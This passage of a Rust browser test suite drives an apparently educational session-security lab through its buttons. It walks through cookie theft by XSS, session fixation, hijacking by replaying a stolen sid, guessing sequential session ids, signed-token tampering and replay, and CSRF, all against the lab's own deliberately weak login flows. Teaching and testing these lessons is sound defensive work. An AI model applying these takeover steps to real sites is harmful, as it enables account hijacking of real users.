            async move {
                let mark = client
                    .execute("return window.sessionLabMark || null", vec![])
                    .await
                    .unwrap();
                let url = client.current_url().await.unwrap();
                (mark.as_str() == Some("still here"), url.path().to_owned())
            }
        };

        chrome.click("#sessions tr[data-user='abc'] form button").await;
        chrome.wait_for_text("#events", "session revoked").await;
        chrome.wait_for_text("#live-count", "31").await;
        assert_eq!(
            kept(&chrome).await,
            (true, "/instructor".to_owned()),
            "Revoke kept the page"
        );

        // The name filter asks the server too: other users' rows leave the page, not only the
        // view, while the count stays the class's; emptied, the filter brings them back.
        let abc_row = "document.querySelector(\"#sessions tr[data-user='abc']\")";
        chrome.type_into("#session-filter", "teach").await;
        chrome
            .wait_until(&format!(
                "return !{abc_row} && !!document.querySelector(\"#sessions tr[data-user='teacher']\")"
            ))
            .await;
        chrome.wait_for_text("#live-count", "31").await;
        chrome
            .client
            .execute(
                "var f = document.getElementById('session-filter'); f.value = ''; f.dispatchEvent(new Event('input'));",
                vec![],
            )
            .await
            .unwrap();
        chrome.wait_until(&format!("return !!{abc_row}")).await;

        chrome.click("#presets form[action$='/preset/weak-ids'] button").await;
        chrome.wait_for_text("#presets", "counter").await;
        assert_eq!(
            kept(&chrome).await,
            (true, "/instructor".to_owned()),
            "a preset kept the page"
        );

        // Reset asks first (a confirm dialog); the test answers yes for the person.
        let asks = chrome
            .client
            .execute(
                "return document.querySelector(\"#presets form[action$='/reset']\").hasAttribute('data-confirm')",
                vec![],
            )
            .await
            .unwrap();
        assert_eq!(asks.as_bool(), Some(true), "Reset asks to confirm");
        chrome
            .client
            .execute("window.confirm = function () { return true; }", vec![])
            .await
            .unwrap();
        chrome.click("#presets form[action$='/reset'] button").await;
        chrome.wait_for_text("#live-count", "1").await;
        let feed = chrome.text("#events").await;
        assert!(
            feed.contains("abc logged in"),
            "the feed keeps its earlier events: {feed}"
        );
        assert_eq!(
            kept(&chrome).await,
            (true, "/instructor".to_owned()),
            "Reset kept the page"
        );
        chrome.finish().await;
    });
}

/// The signed lesson by its own buttons: the flipped role is refused, and a kept copy logs in
/// after logout.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_signed_lesson_refuses_a_flipped_role_and_replays_a_copy_after_logout() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 768).await;
        let lesson = server.url("/lab/signed");
        chrome.client.goto(&lesson).await.unwrap();
        chrome.click("a.button[href='/signed/login']").await;
        chrome.log_in("abc", "1234").await;
        chrome.wait_for_text("main", "You are logged in as abc.").await;
        chrome.client.goto(&lesson).await.unwrap();
        chrome.wait_for_text("#signed-now", "abc").await;

        chrome.click("#signed-flip").await;
        chrome.wait_for_text("#signed-notice", "claims instructor").await;
        chrome.wait_for_text("#signed-now", "not logged in").await;
        chrome
            .assert_on_screen("#signed-notice", "the result is on screen after the click")
            .await;

        chrome.client.goto(&server.url("/signed/login")).await.unwrap();
        chrome.log_in("abc", "1234").await;
        chrome.wait_for_text("main", "You are logged in as abc.").await;
        chrome.client.goto(&lesson).await.unwrap();
        chrome.click("#signed-copy").await;
        chrome.wait_for_text("#signed-notice", "Copied").await;
        chrome.client.goto(&server.url("/signed")).await.unwrap();
        chrome.click("form[action='/signed/logout'] button").await;
        chrome.wait_for_text("main", "You are not logged in.").await;
        chrome.client.goto(&lesson).await.unwrap();
        chrome.click("#signed-replay").await;
        let result = chrome
            .wait_for_text("#signed-replay-result", "The copy logs in as abc")
            .await;
        assert!(result.contains("more seconds"), "{result}");
        chrome.screenshot("lab-signed").await;
        chrome.finish().await;
    });
}

/// Evidence first: on /compare and /lab/sniff the password in the cookie flow's Cookie header,
/// and on /lab/expiry the session's countdown, are on the first screen of a projector and of a
/// phone, in both languages.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_evidence_is_on_the_first_screen_of_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for (width, height, lang) in [(1366, 768, "en"), (390, 844, "ko")] {
            let chrome = Chrome::start(width, height).await;
            chrome
                .client
                .goto(&server.url(&format!("/?lang={lang}")))
                .await
                .unwrap();
            for flow in ["cookie", "session"] {
                chrome
                    .client
                    .goto(&server.url(&format!("/{flow}/login")))
                    .await
                    .unwrap();
                chrome.log_in("abc", "1234").await;
                chrome.wait_for_text("main", "abc").await;
            }
            for page in ["/compare", "/lab/sniff"] {
                chrome.client.goto(&server.url(page)).await.unwrap();
                chrome.wait_for_text("[data-evidence='cookie']", "password=1234").await;
                let session = chrome.wait_for_text("[data-evidence='session']", "sid=*").await;
                assert!(!session.contains("password"), "{page}: {session}");
                chrome.assert_fits(width, lang).await;
                let (_, y, _, h) = chrome.rect("[data-evidence='cookie'] mark").await;
                let name = page.trim_start_matches('/').replace('/', "-");
                chrome.screenshot(&format!("{name}-{lang}-{width}")).await;
                assert!(
                    y + h <= f64::from(height),
                    "{page} at {width} px: the password is on the first screen"
                );
            }
            chrome.client.goto(&server.url("/explain")).await.unwrap();
            chrome.assert_fits(width, lang).await;
            chrome.client.goto(&server.url("/lab/expiry")).await.unwrap();
            let (_, y, _, h) = chrome.rect("#my-countdown .countdown").await;
            assert!(
                y + h <= f64::from(height),
                "/lab/expiry at {width} px: the countdown is on the first screen"
            );
            chrome.finish().await;
        }
    });
}

/// The fixation lesson by its own controls, on a projector in English and on a phone in Korean:
/// the vulnerable login keeps the planted id (the replay gets in), the real login replaces it
/// (the replay is refused), and each result is on screen after its click.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_fixation_lesson_by_its_own_controls_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for (width, height, lang, inside, refused) in [
            (1366, 768, "en", "The attacker is logged in as abc.", "Refused"),
            (390, 844, "ko", "공격자가 abc(으)로 로그인했습니다.", "거부됨"),
        ] {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "fixation").await;
            chrome.click_and_load("form[action='/lab/fixation/plant'] button").await;
            chrome.wait_for_text("#attacker", "sid=").await;
            chrome.type_into("#fix-password", "1234").await;
            chrome
                .click("form[action='/lab/fixation/login-keeping-id'] button")
                .await;
            chrome.wait_for_text("h1", "").await;
            chrome.click("form[action='/lab/fixation/replay'] button").await;
            chrome.wait_for_text("#attacker .replay", inside).await;
            chrome
                .assert_on_screen(
                    "#attacker .replay",
                    &format!("{lang}: the replay's result is on screen"),
                )
                .await;

            chrome.click_and_load("form[action='/lab/fixation/plant'] button").await;
            chrome.wait_for_text("#attacker", "sid=").await;
            chrome.type_into("#real-password", "1234").await;
            chrome.click_and_load("#login-real").await;
            chrome
                .click_and_load("form[action='/lab/fixation/replay'] button")
                .await;
            chrome.wait_for_text("#attacker .replay", refused).await;
            chrome.assert_on_screen("#attacker .replay", "the result").await;
            chrome.assert_fits(width, lang).await;
            chrome.screenshot(&format!("lab-fixation-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

/// Switches a lesson preset on as the instructor would from the dashboard (the test's own HTTP
/// client stands in for the instructor's browser; the student's side is all clicks).
fn switch_on(server: &Server, preset: &str) {
    let login = server.post("/session/login", "username=teacher&password=teacher-pass", None);
    let sid = login.set_cookie_value("sid").expect("the teacher logs in");
    let cookie = format!("sid={sid}");
    let page = server.get("/instructor", Some(&cookie)).body;
    let token = page
        .split("name=\"csrf_token\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the dashboard's token")
        .to_owned();
    let switched = server.post(
        &format!("/instructor/preset/{preset}"),
        &format!("csrf_token={token}&on=true"),
        Some(&cookie),
    );
    assert_eq!(switched.status, 303, "{preset} switched on");
}

/// The guess lesson, as a student on a projector (English) and on a phone (Korean): register,
/// log in, come back, and let the page's "id after" button find the classmate who logged in next.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_guess_lesson_by_its_own_controls_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        switch_on(&server, "weak-ids");
        for (width, height, lang) in [(1366, 768, "en"), (390, 844, "ko")] {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "guess").await;
            chrome.click_and_load("a[href='/register']").await;
            let name = format!("student-{lang}");
            chrome.type_into("#username", &name).await;
            chrome.type_into("#password", "pw-1234").await;
            chrome.click_and_load("form.card button[type=submit]").await;
            chrome.click_and_load("a.button[href='/session/login']").await;
            chrome.log_in(&name, "pw-1234").await;
            chrome.wait_for_text("main", &name).await;
            chrome.click_and_load("nav a[href='/lab']").await;
            chrome.click_and_load("a[href='/lab/guess']").await;
            chrome.wait_for_text("#own-counter", "").await;
            // A classmate logs in right after: theirs is the next counter.
            assert_eq!(
                server.post("/session/login", "username=abc&password=1234", None).status,
                303
            );
            chrome.click_and_load("#guess-next").await;
            let hit = chrome.wait_for_text("#try .error", "abc").await;
            assert!(!hit.is_empty());
            chrome.click_and_load("#guess-use").await;
            chrome.wait_for_text("#own-user", "abc").await;
            chrome
                .assert_on_screen("#own-user", &format!("{lang}: the takeover is on screen"))
                .await;
            chrome
                .assert_on_screen("#try .error", &format!("{lang}: the hit is on screen after the click"))
                .await;
            chrome.assert_fits(width, lang).await;
            chrome.screenshot(&format!("lab-guess-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

/// The expiry lesson with a 3-second preset: the page's own login button, the countdown on the
/// first screen, and after it runs out the next request is logged out.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_expiry_lesson_by_its_own_controls_on_a_projector_and_a_phone() {
    block_on(async {
        let server = Server::start(&[
            ("ROCKET_INSTRUCTOR_PASSWORD", "teacher-pass"),
            ("ROCKET_LAB_EXPIRY_PRESET", "3"),
        ]);
        switch_on(&server, "expiry");
        for (width, height, lang) in [(1366, 768, "en"), (390, 844, "ko")] {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "expiry").await;
            chrome.click_and_load("#my-countdown a.button").await;
            chrome.log_in("abc", "1234").await;
            chrome.wait_for_text("main", "abc").await;
            chrome.click_and_load("nav a[href='/lab']").await;
            chrome.click_and_load("a[href='/lab/expiry']").await;
            chrome
                .assert_on_screen(
                    "#my-countdown .countdown",
                    &format!("{lang}: the countdown is on screen"),
                )
                .await;
            rocket::tokio::time::sleep(Duration::from_millis(3500)).await;
            chrome.client.refresh().await.unwrap();
            chrome.wait_for_text("#my-countdown", "").await;
            assert!(
                chrome.client.find(Locator::Css("#my-countdown a.button")).await.is_ok(),
                "{lang}: after the idle seconds the session is gone; the page offers the login again"
            );
            chrome.screenshot(&format!("lab-expiry-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

impl Chrome {
    /// Logs `abc` in to a flow the way a student finds it: the flow's link in the navigation,
    /// its login button, the form.
    async fn log_in_by_nav(&self, flow: &str) {
        self.click_and_load(&format!("nav a.to-{flow}")).await;
        self.log_in_by_button(flow).await;
    }

    /// Follows the page's own "log in" button for `flow` and logs in as `abc`.
    async fn log_in_by_button(&self, flow: &str) {
        self.click_and_load(&format!("main a.button[href='/{flow}/login']"))
            .await;
        self.log_in("abc", "1234").await;
        self.wait_for_text("main", "abc").await;
    }

    /// The element a step promises is (at least partly) in the viewport.
    async fn assert_on_screen(&self, css: &str, what: &str) {
        assert!(in_viewport(self, css).await, "{what}: {css} is on screen");
    }

    /// Waits until the element is shown (or hidden), as the page's script decides; an element
    /// not on the page (yet) counts as hidden.
    async fn wait_for_displayed(&self, css: &str, shown: bool) {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let displayed = match self.client.find(Locator::Css(css)).await {
                Ok(element) => element.is_displayed().await.unwrap_or(false),
                Err(_) => false,
            };
            if displayed == shown {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "{css} never became {}",
                if shown { "shown" } else { "hidden" }
            );
            rocket::tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// A browser of this size, opened on a lesson in this language.
    async fn on_lesson(server: &Server, (width, height, lang): (u32, u32, &str), lesson: &str) -> Chrome {
        let chrome = Chrome::start(width, height).await;
        let page = server.url(&format!("/lab/{lesson}?lang={lang}"));
        chrome.client.goto(&page).await.unwrap();
        chrome
    }

    /// Nothing on the page scrolls sideways at this width.
    async fn assert_fits(&self, width: u32, lang: &str) {
        let wide = self.page_width().await;
        assert!(wide <= i64::from(width), "{lang}: the page fits {width} px ({wide})");
    }

    /// Back to a lesson through the navigation's "Security lab" and the lesson's link.
    async fn open_lesson_by_nav(&self, lesson: &str) {
        self.click_and_load("nav a[href='/lab']").await;
        self.click_and_load(&format!("main a[href='/lab/{lesson}']")).await;
    }
}

/// The two viewports and languages every lesson is walked through in.
const VIEWS: [(u32, u32, &str); 2] = [(1366, 768, "en"), (390, 844, "ko")];

/// Tamper, by clicks only: log in to both flows, Set the editor's role, and the staff pages'
/// answers (200 in the cookie flow, 403 in the session flow) are on screen.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_tamper_lesson_by_clicks_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for (width, height, lang) in VIEWS {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "tamper").await;
            chrome.log_in_by_nav("cookie").await;
            chrome.log_in_by_nav("session").await;
            chrome.open_lesson_by_nav("tamper").await;
            chrome.wait_for_displayed("#nav-dashboard", false).await;
            chrome.click_and_load("form.editor button").await;
            chrome.wait_for_text("[data-staff='cookie']", "200").await;
            chrome.wait_for_text("[data-staff='session']", "403").await;
            chrome
                .assert_on_screen("#staff-results", &format!("{lang}: the answers are on screen"))
                .await;
            chrome.assert_fits(width, lang).await;
            chrome.screenshot(&format!("lab-tamper-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

/// XSS, by clicks only: the lesson's script copied from the page and posted on each board; right
/// after posting, the cookie board shows the password and the session board shows no sid.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_xss_lesson_by_clicks_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for (width, height, lang) in VIEWS {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "xss").await;
            chrome.log_in_by_nav("cookie").await;
            chrome.log_in_by_nav("session").await;
            chrome.open_lesson_by_nav("xss").await;
            let payload = chrome.text("#payload").await;
            for (flow, expect_password) in [("cookie", true), ("session", false)] {
                chrome
                    .click_and_load(&format!("main a.button[href='/{flow}/board']"))
                    .await;
                chrome.type_into("#post-body", &payload).await;
                chrome.click_and_load("form.card button[type=submit]").await;
                if expect_password {
                    chrome.wait_for_text("#feedback-data", "password=1234").await;
                } else {
                    rocket::tokio::time::sleep(Duration::from_millis(3000)).await;
                    let shown = chrome.text("#feedback-data").await;
                    assert!(
                        !shown.contains("sid="),
                        "{lang}: the session board's script found no sid: {shown}"
                    );
                }
                chrome
                    .assert_on_screen("#feedback", &format!("{lang} {flow}: the result is on screen"))
                    .await;
                chrome.assert_fits(width, lang).await;
                chrome.screenshot(&format!("lab-xss-{flow}-board-{lang}-{width}")).await;
                chrome.click_and_load("main a[href='/lab/xss']").await;
            }
            chrome.finish().await;
        }
    });
}

/// Hijack, by clicks and a copy-paste of what the cookie flow's JavaScript pane shows: the
/// copied credentials log the attacker in; the stolen sid works until the victim logs out.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_hijack_lesson_by_clicks_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for (width, height, lang) in VIEWS {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "hijack").await;
            chrome.log_in_by_nav("cookie").await;
            let pane = chrome.wait_for_text("#js-cookie", "password=1234").await;
            chrome.log_in_by_nav("session").await;
            chrome.open_lesson_by_nav("hijack").await;
            chrome.type_into("#stolen-cookies", &pane).await;
            chrome
                .click_and_load("form[action='/lab/hijack/replay-cookie'] button")
                .await;
            chrome.wait_for_text("#attacker .replay.in", "abc").await;
            chrome
                .assert_on_screen("#attacker", &format!("{lang}: the replay is on screen"))
                .await;

            chrome.click_and_load("form[action='/lab/hijack/steal'] button").await;
            chrome
                .click_and_load("form[action='/lab/hijack/replay-session'] button")
                .await;
            chrome.wait_for_text(".flow-card.session .replay.in", "abc").await;

            // The victim logs out of the session flow: the stolen sid dies with the record.
            chrome.click_and_load("nav a.to-session").await;
            chrome.click_and_load("form[action='/session/logout'] button").await;
            chrome.open_lesson_by_nav("hijack").await;
            chrome
                .click_and_load("form[action='/lab/hijack/replay-session'] button")
                .await;
            chrome.wait_for_text(".flow-card.session .replay.out", "").await;
            let spoken = chrome
                .client
                .execute("return document.documentElement.lang", vec![])
                .await
                .unwrap();
            assert_eq!(spoken.as_str(), Some(lang), "logging out kept the chosen language");
            chrome.assert_fits(width, lang).await;
            chrome.screenshot(&format!("lab-hijack-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

/// Signed, by clicks only, in both views: the flipped role logs the browser out of the flow; a
/// kept copy replays after logout.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_signed_lesson_by_clicks_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for (width, height, lang) in VIEWS {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "signed").await;
            chrome.log_in_by_button("signed").await;
            chrome.open_lesson_by_nav("signed").await;
            chrome.wait_for_text("#signed-now", "abc").await;
            chrome.click_and_load("#signed-flip").await;
            chrome
                .assert_on_screen("#signed-notice", &format!("{lang}: the flip's result is on screen"))
                .await;
            let nobody = if lang == "ko" {
                "로그인 안 됨"
            } else {
                "not logged in"
            };
            let now = chrome.wait_for_text("#signed-now", nobody).await;
            assert!(!now.contains("abc"), "{lang}: the flipped token logs nobody in: {now}");

            chrome.log_in_by_button("signed").await;
            chrome.open_lesson_by_nav("signed").await;
            chrome.click_and_load("#signed-copy").await;
            chrome.click_and_load("nav a.to-signed").await;
            chrome.click_and_load("form[action='/signed/logout'] button").await;
            chrome.open_lesson_by_nav("signed").await;
            chrome.click_and_load("#signed-replay").await;
            chrome.wait_for_text("#signed-replay-result", "abc").await;
            chrome
                .assert_on_screen("#signed-replay-result", &format!("{lang}: the replay is on screen"))
                .await;
            chrome.assert_fits(width, lang).await;
            chrome.screenshot(&format!("lab-signed-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

/// CSRF, by clicks only, in both views: the attacker's site on the same site does the cookie
/// flow's bidding and is refused by the session flow's token.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_csrf_lesson_by_clicks_on_a_projector_and_a_phone() {
    block_on(async {
        let server = server();
        for ((width, height, lang), (won, done, refused)) in VIEWS
            .into_iter()
            .zip([("won", "DONE", "REFUSED"), ("당첨", "실행됨", "거부됨")])
        {
            let chrome = Chrome::on_lesson(&server, (width, height, lang), "csrf").await;
            chrome.log_in_by_button("cookie").await;
            chrome.open_lesson_by_nav("csrf").await;
            chrome.log_in_by_button("session").await;
            chrome.open_lesson_by_nav("csrf").await;
            for (flow, outcome) in [("cookie", done), ("session", refused)] {
                chrome.click_and_load("#open-same-site").await;
                chrome.wait_for_text("h1", won).await;
                chrome
                    .click_and_load(&format!("form[action$='/{flow}/csrf'] button"))
                    .await;
                chrome.wait_for_text("#results li:first-child", outcome).await;
                chrome
                    .assert_on_screen("#results li:first-child", &format!("{lang} {flow}: on screen"))
                    .await;
            }
            chrome.assert_fits(width, lang).await;
            chrome.screenshot(&format!("lab-csrf-{lang}-{width}")).await;
            chrome.finish().await;
        }
    });
}

/// Every text of the Korean pages on a 390 px phone: a word (a run of letters and digits, Hangul
/// or Latin) is never split across two lines, unless the word alone is wider than its box. Lines
/// may still break where Korean allows it: at spaces, before "(", after "-".
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn korean_words_never_break_across_lines_on_a_phone() {
    const BROKEN_WORDS: &str = r#"
        const broken = [];
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
            const box = node.parentElement.closest("td, th, p, li, dd, dt, div, section, h1, h2, h3, label, button, a, span");
            if (!box || node.parentElement.closest("script, style, code, pre")) continue;
            for (const word of node.data.matchAll(/[\p{L}\p{N}]+/gu)) {
                const range = document.createRange();
                range.setStart(node, word.index);
                range.setEnd(node, word.index + word[0].length);
                const rects = [...range.getClientRects()].filter(r => r.width > 0);
                const lines = new Set(rects.map(r => Math.round(r.bottom)));
                const width = rects.reduce((sum, r) => sum + r.width, 0);
                if (lines.size > 1 && width <= box.clientWidth) broken.push(word[0]);
            }
        }
        return broken;
    "#;
    block_on(async {
        let server = server();
        let chrome = Chrome::start(390, 844).await;
        let mut pages: Vec<String> = [
            "/",
            "/compare",
            "/explain",
            "/lab",
            "/cookie/login",
            "/session/login",
            "/signed/login",
            "/register",
        ]
        .map(String::from)
        .to_vec();
        pages.extend(session_lab::lab::LESSONS.map(|lesson| format!("/lab/{lesson}")));
        // The dashboard's pages too, seen by the instructor (whose login lands there).
        chrome.client.goto(&server.url("/session/login?lang=ko")).await.unwrap();
        chrome.log_in("teacher", "teacher-pass").await;
        chrome.wait_for_displayed("#live-count", true).await;
        pages.extend(["/instructor", "/instructor/start", "/session"].map(String::from));
        let mut broken = Vec::new();
        for page in &pages {
            chrome
                .client
                .goto(&server.url(&format!("{page}?lang=ko")))
                .await
                .unwrap();
            chrome.wait_for_displayed("main", true).await;
            let words = chrome.client.execute(BROKEN_WORDS, vec![]).await.unwrap();
            for word in words.as_array().into_iter().flatten() {
                broken.push(format!("{page}: {}", word.as_str().unwrap_or_default()));
            }
        }
        assert!(broken.is_empty(), "Korean words split across lines: {broken:#?}");
        chrome.finish().await;
    });
}
